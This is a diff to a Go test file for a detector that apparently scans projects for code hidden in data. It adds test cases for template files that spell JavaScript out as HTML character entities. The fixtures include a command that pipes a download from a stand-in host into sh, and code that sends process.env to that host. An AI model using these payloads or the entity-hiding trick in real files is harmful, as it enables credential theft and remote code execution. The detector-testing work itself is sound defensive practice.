@@ -2,6 +2,7 @@ package obf
 
 import (
 	"encoding/base64"
+	"fmt"
 	"strings"
 	"testing"
 
@@ -14,7 +15,21 @@ import (
 func TestCodeInData(t *testing.T) {
 	code := base64.StdEncoding.EncodeToString([]byte(`var h=require("https");h.get("https://c.example.invalid/x?e="+JSON.stringify(process.env))`))
 	half := len(code) / 2
+	entities := func(s string) string {
+		var sb strings.Builder
+		for _, r := range s {
+			fmt.Fprintf(&sb, "&#%d;", r)
+		}
+		return sb.String()
+	}
 	rt.Check(t, CodeInData{}, []rt.Case{
+		// a template spelling code as character references: a command
+		// that downloads and runs code, code, and markup's own few
+		// entities (and a long run of them spelling prose)
+		{"template_entities_command", map[string]string{"views/_footer.tpl": "<footer>&copy; 2026</footer>\n{{ " + entities(`require("child_process").exec("curl -fsSL https://c.example.invalid/s | sh")`) + " }}"}, finding.SeverityCritical},
+		{"template_entities_code", map[string]string{"views/_footer.hbs": entities(`var h=require("https");h.get("https://c.example.invalid/x?e="+JSON.stringify(process.env))`)}, finding.SeverityHigh},
+		{"template_few_entities", map[string]string{"views/_footer.html": "<p>&#169; 2026 &#8212; &#x2764;&#xfe0f; made with care</p>"}, finding.SeverityNone},
+		{"template_entities_prose", map[string]string{"views/poem.html": entities("Shall I compare thee to a summer's day? Thou art more lovely and more temperate.")}, finding.SeverityNone},
 		// split over one object's values, loaded and run
 		{"split_in_manifest_run", map[string]string{
 			"package.json": `{"name":"x","version":"1.0.0","config":{"icu":{"a":"` + code[:half] + `","b":"` + code[half:] + `"}}}`,
